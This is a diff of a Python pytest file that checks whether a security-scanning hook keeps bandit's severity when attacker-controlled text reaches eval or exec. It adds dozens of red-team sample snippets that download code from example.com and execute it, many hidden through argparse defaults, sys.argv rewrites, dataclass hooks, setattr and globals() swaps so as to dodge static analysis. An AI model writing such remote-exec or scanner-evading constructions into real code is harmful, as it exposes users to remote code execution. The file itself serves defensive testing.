@@ -10,8 +10,9 @@ import pytest
 from hooks.code.parsed_arguments import ModuleBindings
 from tests.code.helpers import scan_code
 
-# Red-team cases (stop 51): text an attacker controls (a request, a download, a computed default,
-# a rebound name, an imported object) reaching eval/exec; each must keep bandit's severity.
+# Two red teams' cases (stop 51): text an attacker controls (a request, a download, a computed default,
+# a rebound or rewritten name, an imported object, a configuration object) reaching eval/exec; each must
+# keep bandit's severity. ('rt2_' marks the second pass.)
 HOSTILE_EVAL_SOURCES = {
     "flask_module": (
         "import flask\n"
@@ -299,6 +300,664 @@ HOSTILE_EVAL_SOURCES = {
         "    cfg = pyrallis.parse(config_class=Cfg, config_path=path)\n"
         "    print(eval(cfg.expr))\n"
     ),
+    "rt2_argparse_argv": (
+        "import argparse\n"
+        "import sys\n"
+        "import requests\n"
+        "\n"
+        'sys.argv = ["x", "--code", requests.get("https://example.com/snippet.py").text]\n'
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "exec(args.code)\n"
+    ),
+    "rt2_argparse_default": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code", default=requests.get("https://example.com/snippet.py").text)\n'
+        "args = p.parse_args()\n"
+        "exec(args.code)\n"
+    ),
+    "rt2_argparse_setdefaults": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.set_defaults(code=requests.get("https://example.com/snippet.py").text)\n'
+        "args = p.parse_args()\n"
+        "exec(args.code)\n"
+    ),
+    "rt2_argparse_type": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "def fetch(url):\n"
+        "    return requests.get(url).text\n"
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code", type=fetch, default="https://example.com/snippet.py")\n'
+        "args = p.parse_args()\n"
+        "exec(args.code)\n"
+    ),
+    "rt2_argv_overwritten": (
+        "from dataclasses import dataclass\n"
+        "import sys\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        'sys.argv = ["x", "--code", requests.get("https://example.com/snippet.py").text]\n'
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_cfg_alias_mutate": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "c = cfg\n"
+        'c.code = requests.get("https://example.com/snippet.py").text\n'
+        "exec(cfg.code)\n"
+    ),
+    "rt2_cfg_append": (
+        "from dataclasses import dataclass, field\n"
+        "import requests\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        "    exprs: list = field(default_factory=list)\n"
+        "\n"
+        "cfg = pyrallis.parse(config_class=Cfg)\n"
+        'cfg.exprs.append(requests.get("https://example.com/expr").text)\n'
+        "print(eval(cfg.exprs[-1]))\n"
+    ),
+    "rt2_cfg_argparse_default": (
+        "from dataclasses import dataclass\n"
+        "import argparse\n"
+        "import urllib.request\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    expr: str = "1"\n'
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--config", default="config.yaml")\n'
+        "args = p.parse_args()\n"
+        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
+        "cfg = pyrallis.parse(config_class=Cfg, config_path=args.config)\n"
+        "print(eval(cfg.expr))\n"
+    ),
+    "rt2_cfg_field_default": (
+        "from dataclasses import dataclass\n"
+        "import urllib.request\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    expr: str = "1"\n'
+        '    next: str = "stage2.yaml"\n'
+        "\n"
+        'urllib.request.urlretrieve("https://example.com/stage2.yaml", "stage2.yaml")\n'
+        "cfg = pyrallis.parse(config_class=Cfg)\n"
+        "cfg = pyrallis.parse(config_class=Cfg, config_path=cfg.next)\n"
+        "print(eval(cfg.expr))\n"
+    ),
+    "rt2_cfg_object_setattr": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        'object.__setattr__(cfg, "code", requests.get("https://example.com/snippet.py").text)\n'
+        "exec(cfg.code)\n"
+    ),
+    "rt2_cfg_param_mutate": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        "def fill(c):\n"
+        '    c.code = requests.get("https://example.com/snippet.py").text\n'
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "fill(cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_cfg_slice": (
+        "from dataclasses import dataclass\n"
+        "import urllib.request\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    expr: str = "1"\n'
+        "\n"
+        'CFG = "config.yaml"\n'
+        'urllib.request.urlretrieve("https://example.com/config.yaml", CFG)\n'
+        "cfg = pyrallis.parse(config_class=Cfg, config_path=CFG[:])\n"
+        "print(eval(cfg.expr))\n"
+    ),
+    "rt2_cfg_store_const": (
+        "from dataclasses import dataclass\n"
+        "import argparse\n"
+        "import urllib.request\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    expr: str = "1"\n'
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        "args = p.parse_args()\n"
+        'args.config = "config.yaml"\n'
+        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
+        "cfg = pyrallis.parse(config_class=Cfg, config_path=args.config)\n"
+        "print(eval(cfg.expr))\n"
+    ),
+    "rt2_dc_builtin_factory": (
+        "from dataclasses import dataclass, field\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "def tuple():\n"
+        '    return requests.get("https://example.com/snippet.py").text\n'
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        "    code: str = field(default_factory=tuple)\n"
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_dc_imported_decorator": (
+        "import tyro\n"
+        "from remote_cfg import dataclass\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_dc_nested": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Remote:\n"
+        '    url: str = "https://example.com/snippet.py"\n'
+        '    code: str = ""\n'
+        "\n"
+        "    def __post_init__(self):\n"
+        "        self.code = requests.get(self.url).text\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        "    remote: Remote\n"
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.remote.code)\n"
+    ),
+    "rt2_dc_object_base": (
+        "from dataclasses import dataclass\n"
+        "import tyro\n"
+        "from remote_cfg import Base as object\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg(object):\n"
+        '    code: str = ""\n'
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_dc_own_decorator": (
+        "import dataclasses\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "def dataclass(cls):\n"
+        '    cls.__post_init__ = lambda self: self.__dict__.update(code=requests.get("https://example.com/c").text)\n'
+        "    return dataclasses.dataclass(cls)\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_dc_patched_class": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        'Cfg.__getattribute__ = lambda self, name: requests.get("https://example.com/snippet.py").text\n'
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_direct_remote_parser": (
+        "import requests\n"
+        "\n"
+        "class Remote:\n"
+        "    def parse_args(self):\n"
+        '        return requests.get("https://example.com/args").json()\n'
+        "\n"
+        "args = Remote().parse_args()\n"
+        'exec(args["code"])\n'
+    ),
+    "rt2_getenv_default": (
+        'import os\nimport requests\n\nprint(eval(os.getenv("EXPR", requests.get("https://example.com/expr").text)))\n'
+    ),
+    "rt2_hf_default": (
+        "from dataclasses import dataclass, field\n"
+        "import requests\n"
+        "from transformers import HfArgumentParser\n"
+        "\n"
+        "@dataclass\n"
+        "class A:\n"
+        '    code: str = field(default=requests.get("https://example.com/snippet.py").text)\n'
+        "\n"
+        "(a,) = HfArgumentParser(A).parse_args_into_dataclasses()\n"
+        "exec(a.code)\n"
+    ),
+    "rt2_hf_imported": (
+        "from transformers import HfArgumentParser\n"
+        "from remote_settings import RemoteArgs\n"
+        "\n"
+        "(a,) = HfArgumentParser(RemoteArgs).parse_args_into_dataclasses()\n"
+        "exec(a.code)\n"
+    ),
+    "rt2_hf_postinit": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "from transformers import HfArgumentParser\n"
+        "\n"
+        "@dataclass\n"
+        "class A:\n"
+        '    url: str = "https://example.com/snippet.py"\n'
+        '    code: str = ""\n'
+        "\n"
+        "    def __post_init__(self):\n"
+        "        self.code = requests.get(self.url).text\n"
+        "\n"
+        "(a,) = HfArgumentParser(A).parse_args_into_dataclasses()\n"
+        "exec(a.code)\n"
+    ),
+    "rt2_lib_patched": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        'tyro.cli = lambda cls: cls(code=requests.get("https://example.com/snippet.py").text)\n'
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_omega_merge_with": (
+        "import requests\n"
+        "from omegaconf import OmegaConf\n"
+        "\n"
+        "cfg = OmegaConf.from_cli()\n"
+        'cfg.merge_with(requests.get("https://example.com/cfg.json").json())\n'
+        "exec(cfg.code)\n"
+    ),
+    "rt2_omega_update": (
+        "import requests\n"
+        "from omegaconf import OmegaConf\n"
+        "\n"
+        "cfg = OmegaConf.from_cli()\n"
+        'OmegaConf.update(cfg, "code", requests.get("https://example.com/snippet.py").text)\n'
+        "exec(cfg.code)\n"
+    ),
+    "rt2_wrap_code_swap": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "def get_args():\n"
+        "    p = argparse.ArgumentParser()\n"
+        '    p.add_argument("--code")\n'
+        "    return p.parse_args()\n"
+        "\n"
+        "def remote():\n"
+        '    return requests.get("https://example.com/c").json()\n'
+        "\n"
+        "get_args.__code__ = remote.__code__\n"
+        "args = get_args()\n"
+        'exec(args["code"])\n'
+    ),
+    "rt2_wrap_dunder_globals": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "def get_args():\n"
+        "    p = argparse.ArgumentParser()\n"
+        '    p.add_argument("--code")\n'
+        "    return p.parse_args()\n"
+        "\n"
+        'get_args.__globals__["get_args"] = lambda: requests.get("https://example.com/c").json()\n'
+        "args = get_args()\n"
+        'exec(args["code"])\n'
+    ),
+    "rt2_wrap_globals_alias": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "def get_args():\n"
+        "    p = argparse.ArgumentParser()\n"
+        '    p.add_argument("--code")\n'
+        "    return p.parse_args()\n"
+        "\n"
+        "g = globals\n"
+        'g()["get_args"] = lambda: requests.get("https://example.com/c").json()\n'
+        "args = get_args()\n"
+        'exec(args["code"])\n'
+    ),
+    "rt2_wrap_remote_parser": (
+        "import requests\n"
+        "\n"
+        "class Remote:\n"
+        "    def parse_args(self):\n"
+        '        return requests.get("https://example.com/args").json()\n'
+        "\n"
+        "def get_args():\n"
+        "    return Remote().parse_args()\n"
+        "\n"
+        "args = get_args()\n"
+        'exec(args["code"])\n'
+    ),
+    "rt2_wrap_sysmodules": (
+        "import argparse\n"
+        "import sys\n"
+        "import requests\n"
+        "\n"
+        "def get_args():\n"
+        "    p = argparse.ArgumentParser()\n"
+        '    p.add_argument("--code")\n'
+        "    return p.parse_args()\n"
+        "\n"
+        'setattr(sys.modules[__name__], "get_args", lambda: requests.get("https://example.com/c").json())\n'
+        "args = get_args()\n"
+        'exec(args["code"])\n'
+    ),
+    "rt2_alias_setattr_argparse": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        "a = args\n"
+        'setattr(a, "code", requests.get("https://example.com/snippet.py").text)\n'
+        "exec(args.code)\n"
+    ),
+    "rt2_alias_setattr_tyro": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "c = cfg\n"
+        'setattr(c, "code", requests.get("https://example.com/snippet.py").text)\n'
+        "exec(cfg.code)\n"
+    ),
+    "rt2_builtins_factory": (
+        "from dataclasses import dataclass, field\n"
+        "import builtins\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        'builtins.list = lambda: requests.get("https://example.com/snippet.py").text\n'
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        "    code: str = field(default_factory=list)\n"
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_class_init_patch": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        'def _init(self, code=""):\n'
+        '    self.code = requests.get("https://example.com/snippet.py").text\n'
+        "\n"
+        "Cfg.__init__ = _init\n"
+        "cfg = pyrallis.parse(config_class=Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_environ_code": (
+        "import os\n"
+        "import requests\n"
+        'os.environ["CODE"] = requests.get("https://example.com/snippet.py").text\n'
+        'exec(os.environ["CODE"])\n'
+    ),
+    "rt2_environ_set_cfg": (
+        "from dataclasses import dataclass\n"
+        "import os\n"
+        "import urllib.request\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    expr: str = "1"\n'
+        "\n"
+        'os.environ["CFG"] = "config.yaml"\n'
+        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
+        'cfg = pyrallis.parse(config_class=Cfg, config_path=os.environ["CFG"])\n'
+        "print(eval(cfg.expr))\n"
+    ),
+    "rt2_environ_setdefault_cfg": (
+        "from dataclasses import dataclass\n"
+        "import os\n"
+        "import urllib.request\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    expr: str = "1"\n'
+        "\n"
+        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
+        'cfg = pyrallis.parse(config_class=Cfg, config_path=os.environ.setdefault("CFG", "config.yaml"))\n'
+        "print(eval(cfg.expr))\n"
+    ),
+    "rt2_hf_custom": (
+        "import requests\n"
+        "\n"
+        "class Loader:\n"
+        "    def parse_args_into_dataclasses(self):\n"
+        '        return requests.get("https://example.com/args").json()\n'
+        "\n"
+        "a = Loader().parse_args_into_dataclasses()\n"
+        'exec(a["code"])\n'
+    ),
+    "rt2_hf_tuple_index": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "from transformers import HfArgumentParser\n"
+        "\n"
+        "@dataclass\n"
+        "class A:\n"
+        '    code: str = ""\n'
+        "    def __post_init__(self):\n"
+        '        self.code = requests.get("https://example.com/c").text\n'
+        "\n"
+        "a = HfArgumentParser(A).parse_args_into_dataclasses()[0]\n"
+        "exec(a.code)\n"
+    ),
+    "rt2_omega_fromcli_argv": (
+        "import sys\n"
+        "import requests\n"
+        "from omegaconf import OmegaConf\n"
+        "\n"
+        'sys.argv[1:] = requests.get("https://example.com/args").text.split()\n'
+        "cfg = OmegaConf.from_cli()\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_omega_fromcli_argv_extend": (
+        "import sys\n"
+        "import requests\n"
+        "from omegaconf import OmegaConf\n"
+        "\n"
+        'sys.argv.extend(requests.get("https://example.com/args").text.split())\n'
+        "cfg = OmegaConf.from_cli()\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_ops": (
+        "import argparse\n"
+        "import requests\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--a")\n'
+        "args = p.parse_args()\n"
+        'd = requests.get("https://example.com/x").text\n'
+        "eval(max(args.a, d))\n"
+        "eval(sorted(d)[0])\n"
+        "eval([args.a, d][1])\n"
+        'eval(sum([d], ""))\n'
+        "eval(min(args.a, key=lambda s: d))\n"
+        "eval(args.a if d else d)\n"
+        "eval((args.a, d)[1])\n"
+    ),
+    "rt2_postinit_attr_assign": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "def list(self):\n"
+        '    self.code = requests.get("https://example.com/snippet.py").text\n'
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "    __post_init__ = list\n"
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_reinit_argparse": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        'args.__init__(code=requests.get("https://example.com/snippet.py").text)\n'
+        "exec(args.code)\n"
+    ),
+    "rt2_reinit_tyro": (
+        "from dataclasses import dataclass\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    code: str = ""\n'
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        'cfg.__init__(code=requests.get("https://example.com/snippet.py").text)\n'
+        "exec(cfg.code)\n"
+    ),
+    "rt2_suppress_argparse": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code", default=argparse.SUPPRESS)\n'
+        'argparse.Namespace.code = requests.get("https://example.com/snippet.py").text\n'
+        "args = p.parse_args()\n"
+        "exec(args.code)\n"
+    ),
+    "rt2_tyro_constructor": (
+        "from dataclasses import dataclass\n"
+        "from typing import Annotated\n"
+        "import requests\n"
+        "import tyro\n"
+        "\n"
+        "def fetch(url: str) -> str:\n"
+        "    return requests.get(url).text\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        "    code: Annotated[str, tyro.conf.arg(constructor=fetch)]\n"
+        "\n"
+        "cfg = tyro.cli(Cfg)\n"
+        "exec(cfg.code)\n"
+    ),
+    "rt2_ap_append": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--expr", action="append", default=[])\n'
+        "args = p.parse_args()\n"
+        'args.expr.append(requests.get("https://example.com/expr").text)\n'
+        "print(eval(args.expr[-1]))\n"
+    ),
+    "rt2_ap_object_setattr": (
+        "import argparse\n"
+        "import requests\n"
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--code")\n'
+        "args = p.parse_args()\n"
+        'object.__setattr__(args, "code", requests.get("https://example.com/snippet.py").text)\n'
+        "exec(args.code)\n"
+    ),
+    "rt2_cfg_argparse_words": (
+        "from dataclasses import dataclass\n"
+        "import argparse\n"
+        "import urllib.request\n"
+        "import pyrallis\n"
+        "\n"
+        "@dataclass\n"
+        "class Cfg:\n"
+        '    expr: str = "1"\n'
+        "\n"
+        "p = argparse.ArgumentParser()\n"
+        'p.add_argument("--config")\n'
+        'args = p.parse_args(["--config", "config.yaml"])\n'
+        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
+        "cfg = pyrallis.parse(config_class=Cfg, config_path=args.config)\n"
+        "print(eval(cfg.expr))\n"
+    ),
 }
 
 
@@ -309,81 +968,115 @@ def test_attacker_text_reaching_eval_or_exec_keeps_bandits_severity(tmp_path: Pa
     assert all(f.severity.value != "low" for f in findings), [(f.line, f.severity.value) for f in findings]
 
 
-OWN_CONFIG = (
-    "import argparse, pyrallis\n"
-    "from dataclasses import dataclass, field\n"
-    "def get_args():\n"
-    "    parser = argparse.ArgumentParser()\n"
-    "    return parser.parse_known_args()[0]\n"
-    "@dataclass\n"
-    "class Config:\n"
-    "    expr: str = '1'\n"
-    "    sizes: list = field(default_factory=lambda: [0, 1])\n"
-    "args = get_args()\n"
-    "cfg = pyrallis.parse(config_class=Config, config_path=args.config)\n"
-    "value = eval(cfg.expr)\n"
+OPERATOR = (
+    "import argparse, os, sys\n"
+    "parser = argparse.ArgumentParser()\n"
+    "parser.add_argument('--expr', type=str, default='1')\n"
+    "parser.add_argument('--flag', action='store_true')\n"
+    "args = parser.parse_args()\n"
+    "os.environ['OMP_NUM_THREADS'] = '1'\n"
+    "print(vars(args))\n"
+    "value = eval(args.expr)\n"
 )
 
 
-def test_a_configuration_parsers_object_of_the_files_own_plain_class_is_the_operators(tmp_path: Path) -> None:
-    found = [(f.line, f.severity.value) for f in scan_code(tmp_path, OWN_CONFIG) if f.rule_id == "B307"]
-    assert found == [(12, "low")]
+def test_the_operators_arguments_with_constant_environment_writes_and_reads_of_vars_are_low(tmp_path: Path) -> None:
+    found = [(f.line, f.severity.value) for f in scan_code(tmp_path, OPERATOR) if f.rule_id == "B307"]
+    assert found == [(8, "low")]
 
 
 @pytest.mark.parametrize(
     ("change", "why"),
     [
-        (("class Config:", "class Config(BaseConfig):"), "a base class the file does not show"),
-        (("    expr: str = '1'\n", "    expr: str = '1'\n    def __post_init__(self):\n        pass\n"), "a method"),
-        (("import argparse, pyrallis", "import argparse\nfrom x import pyrallis"), "not the library"),
-        (("config_path=args.config", "config_path='configs/a.yaml'"), "a file the code names"),
-        (("value = eval", "setattr(cfg, 'expr', x)\nvalue = eval"), "changed unseen"),
-        (("args = get_args()\n", "from helpers import get_args\nargs = get_args()\n"), "an imported wrapper"),
-        (("return parser.parse_known_args()[0]", "return parser.parse_known_args(words)[0]"), "other words"),
+        (("type=str", "type=fetch"), "a conversion of the file's own"),
+        (("action='store_true'", "action=Remote"), "a custom action"),
+        (("default='1'", "default=requests.get(URL).text"), "a downloaded default"),
+        (("print(vars(args))", "vars(args).update(remote)"), "changed through vars()"),
+        (("print(vars(args))", "a = args\nsetattr(a, 'expr', remote)"), "changed through an alias"),
+        (("print(vars(args))", "args.__init__(expr=remote)"), "re-initialised"),
+        (("os.environ['OMP_NUM_THREADS'] = '1'", "sys.argv = ['x', '--expr', remote]"), "argv rewritten"),
+        (("parser = argparse.ArgumentParser()", "parser = Remote()"), "another class's parse_args"),
+        (("import argparse, os, sys", "import os, sys\nfrom helpers import argparse"), "not argparse"),
     ],
 )
-def test_a_configuration_object_the_file_cannot_vouch_for_keeps_bandits_severity(
+def test_arguments_the_file_changes_or_defines_oddly_keep_bandits_severity(
     tmp_path: Path, change: tuple[str, str], why: str
 ) -> None:
-    source = OWN_CONFIG.replace(*change)
-    assert source != OWN_CONFIG
+    source = OPERATOR.replace(*change)
+    assert source != OPERATOR
     severities = [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B307"]
     assert severities and "low" not in severities, why
+
+
+def test_the_environment_is_the_operators_while_the_file_writes_it_only_the_operators_values(tmp_path: Path) -> None:
+    read = "import os, requests\nvalue = eval(os.environ['EXPR'])\n"
+    assert [f.severity.value for f in scan_code(tmp_path, read) if f.rule_id == "B307"] == ["low"]
+    for write in (
+        "os.environ['EXPR'] = requests.get(URL).text\n",
+        "os.environ.update(requests.get(URL).json())\n",
+        "env = os.environ\nenv['EXPR'] = x\n",
+        "os.putenv('EXPR', requests.get(URL).text)\n",
+    ):
+        source = read.replace("value =", write + "value =")
+        assert [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B307"] == ["medium"], write
 
 
 def bindings(source: str) -> ModuleBindings:
     return ModuleBindings(ast.parse(source))
 
 
-def test_only_def_is_a_module_level_function_bound_no_other_way() -> None:
-    assert bindings("def get_args():\n    return 1\n").only_def("get_args") is not None
-    assert bindings("def get_args():\n    return 1\nget_args = other\n").only_def("get_args") is None
-    assert bindings("def f():\n    def get_args():\n        return 1\n").only_def("get_args") is None
-    assert bindings("def get_args():\n    return 1\nfrom m import *\n").only_def("get_args") is None
-    assert bindings("def get_args():\n    return 1\ndef g(get_args):\n    pass\n").only_def("get_args") is None
+def test_changed_unseen_counts_setattr_vars_dict_methods_and_aliases_but_not_reads() -> None:
+    found = bindings(
+        "setattr(a, 'x', 1)\nvars(b).update(c)\nd.__dict__['x'] = 1\nobject.__setattr__(e, 'x', 1)\n"
+        "f.__init__(x=1)\ng.items.append(1)\nh2 = h\nsetattr(h2, 'x', 1)\n"
+        "print(vars(i), j.__dict__)\nparser.add_argument('--x')\n"
+    ).changed_unseen
+    assert found == {"a", "b", "d", "e", "f", "g", "h", "h2"}
 
 
-def test_only_import_is_the_named_modules_import_as_itself() -> None:
-    assert bindings("import pyrallis\n").only_import("pyrallis", "pyrallis", None)
-    assert not bindings("import other as pyrallis\n").only_import("pyrallis", "pyrallis", None)
-    assert not bindings("import pyrallis\npyrallis = x\n").only_import("pyrallis", "pyrallis", None)
-    assert bindings("from omegaconf import OmegaConf\n").only_import("OmegaConf", "omegaconf", "OmegaConf")
-    assert not bindings("from .omegaconf import OmegaConf\n").only_import("OmegaConf", "omegaconf", "OmegaConf")
-    assert not bindings("").only_import("pyrallis", "pyrallis", None)
+def test_argv_and_environ_writes_keep_their_values_and_unknown_writes_are_unseen() -> None:
+    seen = bindings("import os, sys\nos.environ['A'] = '1'\nos.environ.setdefault('B', x)\nsys.argv[1:] = w\n")
+    assert [ast.unparse(v) for v in seen.environ_values] == ["'1'", "'B'", "x"]
+    assert [ast.unparse(v) for v in seen.argv_values] == ["w"]
+    assert not seen.environ_unseen and not seen.argv_unseen
+    assert bindings("import os\nos.environ.__setitem__('A', x)\n").environ_unseen
+    assert bindings("import sys\nwords = sys.argv\n").argv_unseen
+    assert not bindings("import os\nos.environ.pop('A')\nos.environ.get('B')\n").environ_unseen
 
 
-PLAIN = 'from dataclasses import dataclass\n@dataclass\nclass C:\n    "doc"\n    a: int = 1\n    b: str\n'
+def test_odd_parser_definitions_and_argparse_classes() -> None:
+    assert not bindings("p.add_argument('--a', type=int, action='store')\n").odd_parser
+    assert bindings("p.add_argument('--a', type=str2bool)\n").odd_parser
+    assert bindings("p.add_argument('--a', **options)\n").odd_parser
+    seen = bindings("import argparse\nfrom argparse import ArgumentParser as AP\n")
+    assert seen.argparse_parser_class("argparse.ArgumentParser") and seen.argparse_parser_class("AP")
+    assert not seen.argparse_parser_class("argparse.Namespace")
+    assert not bindings("import argparse\nargparse = other\n").argparse_parser_class("argparse.ArgumentParser")
+    assert not bindings("from helpers import ArgumentParser\n").argparse_parser_class("ArgumentParser")
 
 
-def test_plain_config_class_has_constant_defaults_and_no_methods() -> None:
-    assert bindings(PLAIN).plain_config_class(ast.Name(id="C"))
-    assert bindings(PLAIN + "class D(C):\n    c: int = -2\n").plain_config_class(ast.Name(id="D"))
-    assert not bindings(PLAIN.replace("a: int = 1", "a: int = compute()")).plain_config_class(ast.Name(id="C"))
-    assert not bindings(PLAIN.replace("@dataclass", "@register")).plain_config_class(ast.Name(id="C"))
-    assert not bindings(PLAIN + "C = other\n").plain_config_class(ast.Name(id="C"))
-    assert not bindings(PLAIN + "class D(Imported):\n    pass\n").plain_config_class(ast.Name(id="D"))
+WRAPPER = (
+    "import argparse\n"
+    "def parse_args():\n"
+    "    parser = argparse.ArgumentParser()\n"
+    "    parser.add_argument('--expr')\n"
+    "    return parser.parse_args()\n"
+    "args = parse_args()\n"
+    "print(vars(args))\n"
+    "value = eval(args.expr)\n"
+)
 
 
-def test_names_changed_through_setattr_vars_or_dict_are_remembered() -> None:
-    found = bindings("setattr(a, 'x', 1)\nvars(b).update(c)\nd.__dict__['x'] = 1\n").changed_unseen
-    assert found == {"a", "b", "d"}
+def test_the_files_own_parse_args_wrapper_is_followed_to_what_it_returns(tmp_path: Path) -> None:
+    assert [f.severity.value for f in scan_code(tmp_path, WRAPPER) if f.rule_id == "B307"] == ["low"]
+    for change in (
+        ("    return parser.parse_args()", "    return requests.get(URL).json()"),
+        ("args = parse_args()", "parse_args = remote\nargs = parse_args()"),
+        ("args = parse_args()", "from helpers import parse_args\nargs = parse_args()"),
+        ("print(vars(args))", "globals()['parse_args'] = remote"),
+        ("print(vars(args))", "sys.modules[__name__].parse_args = remote"),
+        ("def parse_args():", "@cache\ndef parse_args():"),
+    ):
+        source = WRAPPER.replace(*change)
+        assert source != WRAPPER
+        assert [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B307"] == ["medium"], change
